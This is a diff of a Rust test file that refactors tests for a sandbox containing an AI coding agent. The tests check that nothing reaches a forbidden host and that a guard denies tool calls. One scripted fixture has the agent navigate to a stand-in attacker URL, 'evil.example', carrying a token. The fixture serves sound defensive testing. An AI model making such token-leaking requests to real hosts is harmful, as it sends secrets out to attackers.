@@ -4,7 +4,6 @@
 //! of every file of the project and HOME, and the process table.
 
 use std::io::{BufRead as _, Write as _};
-use std::net::TcpListener;
 use std::path::Path;
 use std::process::Stdio;
 use std::sync::{Arc, Mutex};
@@ -21,26 +20,16 @@ struct Witness {
 
 impl Witness {
     fn start() -> Witness {
-        let l = TcpListener::bind("127.0.0.1:0").unwrap();
-        let port = l.local_addr().unwrap().port();
         let log = Arc::new(Mutex::new(Vec::new()));
-        let log2 = log.clone();
-        std::thread::spawn(move || {
-            for conn in l.incoming().flatten() {
-                log2.lock().unwrap().push("connection".into());
-                let log3 = log2.clone();
-                std::thread::spawn(move || {
-                    let mut r = std::io::BufReader::new(&conn);
-                    let mut line = String::new();
-                    let _ = r.read_line(&mut line);
-                    log3.lock().unwrap().push(line.trim().to_owned());
-                    let mut w = &conn;
-                    let _ = w.write_all(
-                        b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
-                    );
-                });
-            }
-        });
+        let (accepted, read) = (log.clone(), log.clone());
+        let port = serve_ok(
+            move || accepted.lock().unwrap().push("connection".into()),
+            move |r| {
+                let mut line = String::new();
+                let _ = r.read_line(&mut line);
+                read.lock().unwrap().push(line.trim().to_owned());
+            },
+        );
         Witness { port, log }
     }
     fn seen(&self) -> Vec<String> {
@@ -167,7 +156,7 @@ fn nothing_gets_out(harness: &str) {
 
     // The environment: the supervisor's other variables never reach the box.
     let env = std::fs::read_to_string(sb.kit().join("results.jsonl.env")).unwrap();
-    assert!(env.contains("LEOPOLD_RUN_ID="), "{env}");
+    assert_has(&env, "LEOPOLD_RUN_ID=");
     assert!(!env.contains("planted-"), "{env}");
 
     // The network: the forbidden host saw no connection at all, by any spelling.
@@ -294,10 +283,8 @@ fn a_failed_proof_stops_the_boxed_worker_before_its_model(harness: &str) {
     let (out, sb, model, reached) = run(true);
     let err = stderr(&out);
     assert_eq!(out.status.code(), Some(2), "{}{err}", stdout(&out));
-    assert!(
-        err.contains("the wired guard did not deny") && err.contains("exit 127"),
-        "{err}"
-    );
+    assert_has(&err, "the wired guard did not deny");
+    assert_has(&err, "exit 127");
     assert_eq!(sb.run_json()["end"]["outcome"], "setup_failed");
     // The worker ran (it recorded its start) and went for its model: held, then stopped.
     assert!(sb.worker_record()["pid"].is_u64(), "the worker started");
@@ -375,11 +362,7 @@ fn the_model_relay_admits_only_the_endpoint() {
         );
     }
     assert_eq!(results_for(&results, "get")[0]["ok"], false, "{results:?}");
-    assert!(
-        stderr(&out).contains("the box refused 3 request(s)"),
-        "{}",
-        stderr(&out)
-    );
+    assert_has(&stderr(&out), "the box refused 3 request(s)");
     assert!(!stderr(&out).contains("https://"), "hosts only, never URLs");
     assert!(forbidden.seen().is_empty(), "{:?}", forbidden.seen());
 }
@@ -388,8 +371,9 @@ fn the_model_relay_admits_only_the_endpoint() {
 /// reaches `events.jsonl` (which the box cannot write) through the supervisor's socket.
 #[test]
 fn the_guard_denies_inside_the_box_and_its_event_reaches_the_record() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n");
+    let sb = Sandbox::scripted(
+        "@guard mcp__browser__navigate https://evil.example/x?token=1\n@exit 0\n",
+    );
     let out = sb.run_cmd("claude", &[]).output().unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let events = std::fs::read_to_string(sb.persona_dir().join("events.jsonl")).unwrap();
@@ -415,21 +399,12 @@ fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
         "@detach 2 http://127.0.0.1:{}/after-kill {}\n@grandchild 60\n{}\n{}\n@sleep 60000\n",
         forbidden.port,
         after.display(),
-        claude_tool_use(
-            "t1",
-            "mcp__personastub__navigate",
-            serde_json::json!({"url":"https://staging.example.com/a"})
-        ),
+        claude_navigate("t1", "https://staging.example.com/a"),
         claude_tool_ok("t1")
     ));
     let before = sb.snapshot();
     let mut child = sb.spawn_paused("claude", "mid-stream");
-    let run_id =
-        serde_json::from_str::<serde_json::Value>(&std::fs::read_to_string(sb.active()).unwrap())
-            .unwrap()["run_id"]
-            .as_str()
-            .unwrap()
-            .to_owned();
+    let run_id = active_run_id(&sb);
     wait_for(5, "the grandchild", || sb.grandchild_pid().is_some());
     let detached = sb.results_lines()[0]["pid"].as_u64().unwrap() as u32;
     assert!(sb.proc_alive(detached));
@@ -462,8 +437,7 @@ fn a_sigkilled_supervisor_takes_the_whole_box_with_it() {
 /// `--no-contain` the run goes ahead and says so.
 #[test]
 fn no_box_refuses_unless_no_contain() {
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@exit 0\n");
+    let sb = Sandbox::scripted("@exit 0\n");
     let before = sb.snapshot();
     let out = sb
         .run_cmd("claude", &[])
@@ -472,10 +446,8 @@ fn no_box_refuses_unless_no_contain() {
         .unwrap();
     assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
     let e = stderr(&out);
-    assert!(
-        e.contains("bubblewrap") && e.contains("--no-contain"),
-        "{e}"
-    );
+    assert_has(&e, "bubblewrap");
+    assert_has(&e, "--no-contain");
     assert_eq!(sb.snapshot(), before);
     assert!(!sb.persona_dir().exists(), "nothing touched");
 
@@ -486,7 +458,7 @@ fn no_box_refuses_unless_no_contain() {
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(stderr(&out).contains("WITHOUT the box"), "{}", stderr(&out));
+    assert_has(&stderr(&out), "WITHOUT the box");
 }
 
 /// A build without the `test-knobs` feature, as `cargo build --release` is, reads no
@@ -505,8 +477,7 @@ fn a_build_without_the_test_knobs_reads_none() {
         return;
     };
     let no_knobs = std::path::PathBuf::from(no_knobs);
-    let sb = Sandbox::with_user_files();
-    sb.set_script("@exit 0\n");
+    let sb = Sandbox::scripted("@exit 0\n");
     let ran = sb.root.join("fake-bwrap-ran");
     let fake = sb.root.join("fake-bwrap");
     std::fs::write(
